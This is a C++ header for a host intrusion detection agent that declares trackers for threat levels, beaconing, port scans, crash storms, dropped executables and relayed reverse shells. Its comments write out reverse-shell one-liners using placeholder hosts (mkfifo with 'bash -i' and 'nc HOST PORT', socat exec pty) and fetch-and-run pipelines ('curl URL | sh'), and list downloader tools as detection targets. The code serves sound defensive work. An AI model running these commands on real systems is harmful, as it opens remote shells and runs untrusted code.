// Host awareness: what the seed calls consciousness, as engineering.
//  - LevelTracker: calm / attentive / alert / critical from a decayed sum of
//    recent scores, with hysteresis (separate up and down thresholds, minimum
//    dwell) so the level neither flaps nor sticks.
//  - AttentionFocus: a bounded, decaying set of entities (process ids) recently
//    involved in high scores; events touching them are judged more strictly.
//  - Baseline: what this host has done before (e.g. parent->child executables),
//    learned during a warm-up and continuously, bounded, aged out, persisted.
//  - AlertDeduper: one attack is one alert that grows, not a thousand lines.
// Time is passed in (seconds on a monotonic clock) so every class is testable
// without sleeping.
#pragma once

#include <algorithm>
#include <array>
#include <cstdint>
#include <deque>
#include <filesystem>
#include <functional>
#include <iosfwd>
#include <list>
#include <optional>
#include <span>
#include <string>
#include <string_view>
#include <unordered_map>
#include <vector>

#include "vigil/agent/process_table.h"
#include "vigil/result.h"

namespace vigil::agent {

enum class Level : std::uint8_t { kCalm = 0, kAttentive = 1, kAlert = 2, kCritical = 3 };
[[nodiscard]] std::string_view to_string(Level level);

// The host's level says how much alert-grade evidence it has seen lately, on
// a scale the host's own benign work does not saturate (docs/scoring.md,
// "Host awareness"):
//  - attentive: recent indicator hits add up above what this host's benign
//    work reached before (the highest pressure of earlier hours, times
//    benign_factor; never below up[0]), or an alert-grade score came in;
//  - alert and critical: only alert-grade scores (>= alert_score) count.
//    Hits below the alert threshold, however many, never take a host past
//    attentive: ordinary work cannot arouse it, and an attacker cannot
//    blind it with cheap noise (scores never fall with the level either,
//    ScoringModel::score).
// Both pressures decay (half_life_s) and are capped (cap_factor times the
// highest threshold), so an idle host is calm again within minutes whatever
// happened before; a level steps down to the one its pressure still
// justifies once it has been held min_dwell_s.
struct LevelConfig {
  double half_life_s = 60;
  // up[0]: least pressure for attentive; up[1], up[2]: alert-grade pressure
  // for alert and critical...
  std::array<double, 3> up = {40, 100, 250};
  // ...and below which the level steps back down from them.
  std::array<double, 3> down = {15, 50, 125};
  double min_dwell_s = 30;               // time spent in a level before stepping down
  std::uint32_t min_score = 20;          // scores below this add no pressure
  std::uint32_t alert_score = 50;        // scores from this on are alert-grade evidence
  double benign_factor = 1.5;            // attentive above this times the benign peak
  double benign_window_s = 3600;         // the benign peak is learned per window...
  double benign_half_life_s = 6 * 3600;  // ...and fades this fast
  double cap_factor = 1.5;
};

struct LevelChange {
  Level from;
  Level to;
  double pressure;
};

class LevelTracker {
 public:
  explicit LevelTracker(LevelConfig config = {}) : config_(config) {}
  // Adds a scored event at time `now`; returns the change if the level moved.
  // A `repeat` of an incident already counted adds pressure but no
  // alert-grade pressure: one incident is one piece of alert-grade evidence.
  std::optional<LevelChange> observe(double now, std::uint32_t score, bool repeat = false);
  // Lets pressure decay without an event (call periodically).
  std::optional<LevelChange> tick(double now) { return observe(now, 0); }
  // Scores from `score` on are alert-grade (the agent's alert threshold, but
  // never below 50: a recording at threshold 1 sees a default host's levels).
  void set_alert_score(std::uint32_t score) { config_.alert_score = std::max(score, 50U); }
  [[nodiscard]] std::uint32_t alert_score() const { return config_.alert_score; }
  [[nodiscard]] Level level() const { return level_; }
  // Every scored hit's pressure, and the alert-grade part of it.
  [[nodiscard]] double pressure() const { return pressure_; }
  [[nodiscard]] double alerting_pressure() const { return alerting_; }
  // The pressure this host's benign work reached in earlier windows (decayed),
  // and the attentive threshold it sets.
  [[nodiscard]] double benign_peak() const { return benign_peak_; }
  [[nodiscard]] double attentive_threshold() const {
    return std::max(config_.up[0], config_.benign_factor * benign_peak_);
  }

 private:
  void decay_to(double now);
  [[nodiscard]] Level justified(bool rising) const;

  LevelConfig config_;
  Level level_ = Level::kCalm;
  double pressure_ = 0;
  double alerting_ = 0;
  double benign_peak_ = 0;  // learned from finished windows
  double window_peak_ = 0;  // the current window's highest benign pressure
  double window_start_ = 0;
  double last_ = 0;
  double entered_ = 0;
  bool started_ = false;
};

class AttentionFocus {
 public:
  AttentionFocus(std::size_t capacity = 256, double half_life_s = 300, double min_weight = 10)
      : capacity_(capacity), half_life_s_(half_life_s), min_weight_(min_weight) {}
  // Raises the weight of `entity` by `score`.
  void add(std::uint32_t entity, std::uint32_t score, double now);
  // True while the entity's decayed weight stays above the minimum.
  [[nodiscard]] bool in_focus(std::uint32_t entity, double now) const;
  [[nodiscard]] std::size_t size() const { return entries_.size(); }

 private:
  struct Entry {
    double weight;
    double at;
  };
  [[nodiscard]] double weight_at(const Entry& e, double now) const;

  std::size_t capacity_;
  double half_life_s_;
  double min_weight_;
  std::unordered_map<std::uint32_t, Entry> entries_;
};

// Rhythm: the intervals between one program's connections to one destination.
// A beacon is at least `min_intervals` intervals of `min_period_s`..`max_period_s`
// whose coefficient of variation (stddev / mean) is at most `max_cv`: a 2 s
// period with +-20 % uniform jitter has a CV of ~0.12, irregular (Poisson)
// traffic ~1. Bounded: the least recently seen keys are evicted.
struct RhythmConfig {
  // Keys: (program, destination), (process tree, destination) and (user,
  // destination) for every contact, so three times what one unit would need.
  std::size_t capacity = 3 * 4096;
  std::size_t min_intervals = 5;
  double min_period_s = 0.5;
  double max_period_s = 3600;
  double max_cv = 0.3;
};

class RhythmTracker {
 public:
  explicit RhythmTracker(RhythmConfig config = {}) : config_(config) {}
  // Records a contact for `key` at `now` (seconds). Returns the detected period
  // once the recent intervals are regular, else 0.
  double observe(std::string_view key, double now);
  [[nodiscard]] std::size_t size() const { return index_.size(); }

 private:
  static constexpr std::size_t kWindow = 8;  // intervals kept per key
  struct Entry {
    double last = 0;
    std::array<float, kWindow> intervals{};
    std::uint8_t count = 0;  // valid intervals (<= kWindow)
    std::uint8_t next = 0;   // ring position
    std::list<std::string>::iterator lru;
  };
  // Transparent hashing: a lookup by string_view allocates nothing.
  struct KeyHash {
    using is_transparent = void;
    std::size_t operator()(std::string_view k) const { return std::hash<std::string_view>{}(k); }
  };
  RhythmConfig config_;
  std::list<std::string> lru_;
  std::unordered_map<std::string, Entry, KeyHash, std::equal_to<>> index_;
};

// Who did something, by every unit an attacker can spread work across: the
// process, its parent, its process tree (ProcessInfo::tree: one login session,
// one service, one container), its user and its executable.
struct Actor {
  std::uint32_t pid = 0;
  std::uint32_t ppid = 0;
  std::uint32_t tree = 0;  // 0: unknown
  std::uint32_t uid = 0;
  std::string_view exe;  // empty: unknown
};

// Which unit a spread-out finding added up in, narrowest first.
enum class Spread : std::uint8_t { kNone, kProcess, kTree, kExecutable, kUser };
[[nodiscard]] std::string_view to_string(Spread spread);

// SIGSEGV, SIGBUS, SIGILL, SIGABRT: deaths that brute-forced exploits leave.
[[nodiscard]] bool is_crash_signal(std::uint32_t sig);
// IPPROTO_TCP, for SockData::proto.
inline constexpr std::uint16_t kProtoTcp = 6;

// A shell reads its commands from stdin (no -c, no script operand): what a
// reverse shell runs (`bash -i`, `sh`, `bash -li`, `python3`, `sh -s`).
[[nodiscard]] bool reads_commands_from_stdin(std::span<const std::string> args);

// Connect scans: failed connects to many distinct ports within a window, one
// count per process (any address) and, so a loop of one-port processes cannot
// hide, per process tree, executable and user (ports of one address each).
// Reports once per unit per window. Bounded: past `capacity` tracked units the
// expired ones go, then the table starts over.
class ConnectScanTracker {
 public:
  ConnectScanTracker(std::size_t min_ports = 20, double window_s = 10, std::size_t capacity = 4096)
      : min_ports_(min_ports), window_s_(window_s), capacity_(capacity) {}
  // A failed connect by `actor` to `raddr`:`port` at `now` (seconds). Returns
  // the narrowest unit that has just reached min_ports distinct ports; a report
  // silences every unit of that event until its own window closes.
  Spread observe(const Actor& actor, std::string_view raddr, std::uint16_t port, double now);
  [[nodiscard]] std::size_t size() const { return entries_.size(); }

 private:
  struct Entry {
    double start = 0;
    std::vector<std::uint16_t> ports;  // distinct, at most min_ports
    bool reported = false;
  };
  std::size_t min_ports_;
  double window_s_;
  std::size_t capacity_;
  std::unordered_map<std::uint64_t, Entry> entries_;
};

// Crash storms spread over processes: deaths by SIGSEGV/SIGBUS/SIGILL/SIGABRT
// counted per process tree and per user (the kernel counts per executable
// inode; copies of a binary, or many binaries, escape that). Reports once per
// unit per window.
class CrashSpreadTracker {
 public:
  CrashSpreadTracker(std::uint32_t min_crashes = 20, double window_s = 10,
                     std::size_t capacity = 4096)
      : min_crashes_(min_crashes), window_s_(window_s), capacity_(capacity) {}
  // A fatal-signal death of a process of `actor`. Returns the unit that has
  // just reached min_crashes within the window.
  Spread observe(const Actor& actor, double now);
  // The kernel reported a storm for this actor's executable: its tree and user
  // are silenced for the window, so one storm is one finding.
  void reported(const Actor& actor, double now);

 private:
  struct Entry {
    double start = 0;
    std::uint32_t count = 0;
    bool reported = false;
  };
  Entry& slot(std::uint64_t key, double now);
  std::uint32_t min_crashes_;
  double window_s_;
  std::size_t capacity_;
  std::unordered_map<std::uint64_t, Entry> entries_;
};

// The pipes a shell's output goes into, and the processes that may relay it
// (reverse shells through pipes or a pty: `mkfifo f; cat f | bash -i 2>&1 | nc
// HOST PORT > f`, `socat exec:'bash -li',pty tcp:...`, python's pty.spawn,
// `script -qc bash` behind nc).
struct ShellWiring {
  std::uint32_t pid = 0;
  std::uint32_t tree = 0;
  // The parent (output on pipes) or the pty's holder (output on a pty), unless
  // it is a login service: if it connects, it relays.
  std::uint32_t relay = 0;
  // Pipes (and FIFOs) the output goes into: the shell's own stdout/stderr, or
  // those of the pty's holder. A process reading one of them on its stdin
  // reads the shell's output.
  std::array<std::uint64_t, 4> out{};
  std::uint8_t n_out = 0;
  // The pty's holder has a socket on its stdin or stdout (python's pty.spawn
  // after dup2 of a connected socket): a relay however old the connection.
  bool relay_on_socket = false;
};

// The wiring of shell `pid` (child of `ppid`, of `tree`) as a relayed shell
// would have it: stdin and stdout each a pipe or a pty. nullopt otherwise
// (a file, /dev/null, a socket: the last is a reverse shell of its own).
[[nodiscard]] std::optional<ShellWiring> wire_shell(std::uint32_t pid, std::uint32_t ppid,
                                                    std::uint32_t tree, const StdioWiring& w);

// Downloaders and decoders by basename (curl, wget, nc, socat, openssl,
// base64, xxd, busybox, ...): what feeds a shell in `curl URL | sh` or
// `base64 -d f | bash`.
[[nodiscard]] bool is_pipe_feeder(std::string_view exe);

// Pipelines by their pipe: `curl URL | sh` is two execs, in either order, of
// which neither command line shows the pipe when a script or an interactive
// shell set it up. The pipeline records which feeder (is_pipe_feeder) writes a
// pipe and which shell reads its commands from one, for `window_s`, and tells
// the second exec about the first (Sigma fields StdinImage, StdinCommandLine,
// StdoutImage). Bounded: past `capacity` entries per side, expired ones go,
// then all.
class PipeLinks {
 public:
  explicit PipeLinks(std::size_t capacity = 256, double window_s = 30)
      : capacity_(capacity), window_s_(window_s) {}
  struct End {
    std::string exe;
    std::string command_line;
    double at = 0;
  };
  // `exe` (`command_line`) writes into `pipe`; the shell reading it, if one
  // was seen (valid until the next call).
  const End* feeder(std::uint64_t pipe, std::string_view exe, std::string_view command_line,
                    double now);
  // Shell `exe` reads its commands from `pipe`; the feeder writing it, if one
  // was seen (valid until the next call).
  const End* reader(std::uint64_t pipe, std::string_view exe, double now);

 private:
  const End* note(std::unordered_map<std::uint64_t, End>& mine,
                  const std::unordered_map<std::uint64_t, End>& theirs, std::uint64_t pipe,
                  std::string_view exe, std::string_view command_line, double now);
  std::size_t capacity_;
  double window_s_;
  std::unordered_map<std::uint64_t, End> feeders_;
  std::unordered_map<std::uint64_t, End> readers_;
};

// Patterns: short ordered sequences within one process tree.
//  - dropped-exec: a freshly written file in a writable location is made
//    executable, then run by the same tree or user (write -> chmod +x -> exec).
//  - scan-connect-exec: a tree that scanned then made a successful connection
//    then executes something (recon -> exploitation -> foothold).
//  - reverse-shell through a relay: a shell reading stdin whose output leads
//    (by pipe or pty) to a process that connected out.
// A later event matches a stage when its own lineage contains the stage's
// process or parent, or when both are in the same process tree (so a chain of
// short-lived processes, `setsid` or a dead parent between them, still joins
// up). Stages expire after `window_s`. Bounded: past `capacity` entries per
// stage the oldest are dropped.
class SequenceTracker {
 public:
  explicit SequenceTracker(double window_s = 120, std::size_t capacity = 1024)
      : window_s_(window_s), capacity_(capacity) {}

  // write -> chmod +x: `path` was made executable by `actor`.
  void made_executable(std::string_view path, const Actor& actor, double now);
  // ... -> exec: true when `exe` was made executable within the window by a
  // process in `lineage` (the exec'ing process first, then its ancestors), of
  // the exec'ing process's tree, or of its user.
  bool exec_of_dropped(std::string_view exe, std::span<const std::uint32_t> lineage,
                       const Actor& actor, double now);

  // scan: `actor` probed many ports.
  void scanned(const Actor& actor, double now);
  // -> connect: a successful connection by a process whose lineage or tree scanned.
  void connected(std::span<const std::uint32_t> lineage, const Actor& actor, double now);
  // -> exec: true when a process in `lineage` or `actor`'s tree scanned and then connected.
  bool exec_after_scan_connect(std::span<const std::uint32_t> lineage, const Actor& actor,
                               double now);

  // connect -> exec of a shell through a relay (ncat -e, socat exec): `pid`
  // (of `tree`) made an outbound TCP connection.
  void connected_out(std::uint32_t pid, std::uint32_t tree, double now);
  // `pid` made an outbound connection within the last `within_s` seconds.
  [[nodiscard]] bool recently_connected(std::uint32_t pid, double now,
                                        double within_s = kRelayWindowS) const;
  // Up to out.size() processes of `tree` that connected out within the relay
  // window (candidates for reading a shell's output); returns the count.
  std::size_t recent_connects_in(std::uint32_t tree, double now,
                                 std::span<std::uint32_t> out) const;
  // A shell reading stdin through pipes or a pty whose relay is not known yet:
  // kept for the relay window, matched when a process connects.
  void shell_waiting(const ShellWiring& shell, double now);
  // A shell of `tree` is waiting (a cheap guard before reading the connector's stdio).
  [[nodiscard]] bool shells_waiting(std::uint32_t tree, double now) const;
  // `pid` of `tree`, whose stdin is the pipe `stdin_pipe` (its FdEnd id; 0 if
  // stdin is no pipe), connected: true (once per shell) when a waiting shell
  // named it as its relay or writes its output into that pipe.
  bool relay_connected(std::uint32_t pid, std::uint32_t tree, std::uint64_t stdin_pipe, double now);

  // Cheap guards so the hot path skips lineage walks when nothing is pending.
  [[nodiscard]] bool watching_scans() const { return !scans_.empty(); }
  [[nodiscard]] bool watching_connects() const { return !connects_.empty(); }

  static constexpr double kRelayWindowS = 30;

 private:
  struct Stage {
    std::uint32_t pid;
    std::uint32_t ppid;
    std::uint32_t tree;
    std::uint32_t uid;
    double at;
  };
  struct Outbound {
    double at;
    std::uint32_t tree;
  };
  struct Waiting {
    ShellWiring shell;
    double at;
  };
  [[nodiscard]] bool tree_matches(const Stage& s, std::span<const std::uint32_t> lineage,
                                  std::uint32_t tree, double now) const;
  void trim(std::deque<Stage>& q, double now) const;

  double window_s_;
  std::size_t capacity_;
  std::unordered_map<std::string, Stage> dropped_;  // path -> who made it executable
  std::deque<std::string> dropped_order_;
  std::deque<Stage> scans_;
  std::deque<Stage> connects_;                            // connections made by trees that scanned
  std::unordered_map<std::uint32_t, Outbound> outbound_;  // pid -> last outbound connect
  std::deque<Waiting> waiting_;                           // shells whose relay is not known yet
};

// Keys of the state files (baseline.tsv, behaviours.tsv) are paths and may
// hold any byte: '%', TAB and newline are written as %25, %09 and %0A.
[[nodiscard]] std::string escape_state_key(std::string_view s);
// The inverse; nullopt for a '%' not followed by one of those codes.
[[nodiscard]] std::optional<std::string> unescape_state_key(std::string_view s);
// Writes a state file whole or not at all: `write` fills a temporary file
// (mode 0640), which then replaces `path`.
[[nodiscard]] Result<void> write_state_file(const std::filesystem::path& path,
                                            const std::function<void(std::ostream&)>& write);

struct BaselineConfig {
  std::size_t capacity = 20000;
  double warmup_s = 600;          // novelties are learned silently this long after first start
  double max_age_s = 30 * 86400;  // forget pairs not seen for this long
};

class Baseline {
 public:
  explicit Baseline(BaselineConfig config = {}) : config_(config) {}
  // Records `key` at `now` (wall-clock seconds, so it survives restarts).
  // Returns true when the key was never seen and warm-up is over.
  bool observe(std::string_view key, double now);
  [[nodiscard]] bool contains(std::string_view key) const { return index_.contains(key); }
  [[nodiscard]] std::size_t size() const { return index_.size(); }
  [[nodiscard]] bool warming_up(double now) const {
    return started_ == 0 || now - started_ < config_.warmup_s;
  }

  // Text file, one "last_seen<TAB>key" per line after a "started" header;
  // written to a temporary file and renamed, mode 0640.
  [[nodiscard]] Result<void> save(const std::filesystem::path& path) const;
  // Missing file = empty baseline; a malformed line is an error naming the line.
  [[nodiscard]] Result<void> load(const std::filesystem::path& path, double now);

 private:
  struct Slot {
    double last_seen;
    std::list<std::string>::iterator lru;
  };
  void insert(std::string_view key, double when);
  // Transparent hashing: a lookup by string_view allocates nothing.
  struct KeyHash {
    using is_transparent = void;
    std::size_t operator()(std::string_view k) const { return std::hash<std::string_view>{}(k); }
  };

  BaselineConfig config_;
  double started_ = 0;
  std::list<std::string> lru_;  // front = most recent
  std::unordered_map<std::string, Slot, KeyHash, std::equal_to<>> index_;
};

// Suppresses repeats of one (entity, indicator) within a window and counts
// them; the caller reports the count when the window closes.
class AlertDeduper {
 public:
  explicit AlertDeduper(double window_s = 60, std::size_t capacity = 4096)
      : window_s_(window_s), capacity_(capacity) {}

  struct Decision {
    bool emit;            // write this alert
    std::uint64_t id;     // stable id of the (entity, indicator) incident
    std::uint64_t count;  // occurrences so far in the incident
  };
  Decision observe(std::uint32_t entity, std::string_view indicator, double now);

  struct Closed {
    std::uint64_t id;
    std::uint64_t count;
  };
  // Incidents whose window has passed and that saw repeats: report them once.
  template <typename Fn>
  void close_expired(double now, Fn&& report) {
    for (auto it = open_.begin(); it != open_.end();) {
      if (now - it->second.first_seen >= window_s_) {
        if (it->second.count > 1) {
          report(Closed{it->second.id, it->second.count});
        }
        it = open_.erase(it);
      } else {
        ++it;
      }
    }
  }
  [[nodiscard]] std::uint64_t suppressed() const { return suppressed_; }

 private:
  struct Incident {
    std::uint64_t id;
    std::uint64_t count;
    double first_seen;
  };
  double window_s_;
  std::size_t capacity_;
  std::uint64_t next_id_ = 1;
  std::uint64_t suppressed_ = 0;
  std::unordered_map<std::string, Incident> open_;
};

}  // namespace vigil::agent
